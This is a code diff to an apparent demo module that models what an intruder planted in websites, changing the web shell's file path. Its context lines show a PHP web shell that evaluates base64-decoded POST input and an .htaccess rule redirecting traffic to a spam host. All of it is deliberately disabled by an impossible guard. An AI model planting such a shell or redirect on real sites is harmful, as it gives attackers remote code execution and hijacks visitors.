@@ -1,5 +1,8 @@
-"""What the intruder put into the sites. None of this PHP ever comes to act: no environment
-variable can hold a NUL byte, and every line of it waits for one that does."""
+"""What the intruder put into the sites.
+
+None of this PHP ever comes to act: no environment variable can hold a NUL byte, and every
+line of it waits for one that does.
+"""
 
 from __future__ import annotations
 
@@ -12,7 +15,7 @@ from pratique.demo.days import NIGHT, UPLOAD
 from pratique.demo.disk import Disk
 from pratique.demo.implant import Act, Implant, written
 from pratique.demo.picture import ico, jpeg
-from pratique.demo.visitors import INTRUDER
+from pratique.demo.visitors import INTRUDER, WEB_SHELL
 
 _NEVER: Final = "getenv('PRATIQUE_DEMO') === chr(0)"
 _UPLOADS: Final = f"{blog.ROOT}/content/uploads"
@@ -68,11 +71,11 @@ RewriteRule ^(.*)$ http://pills.example/$1 [R=302,L]
 
 IMPLANTS: Final = (
     Implant(
-        f"{_UPLOADS}/2026/03/avatar.php",
+        f"{blog.ROOT}{WEB_SHELL}",
         "the web shell that came in by an upload",
         "web-php-runs-request",
         _put(
-            f"{_UPLOADS}/2026/03/avatar.php",
+            f"{blog.ROOT}{WEB_SHELL}",
             _guarded("eval(base64_decode($_POST['k']));"),
             UPLOAD,
         ),
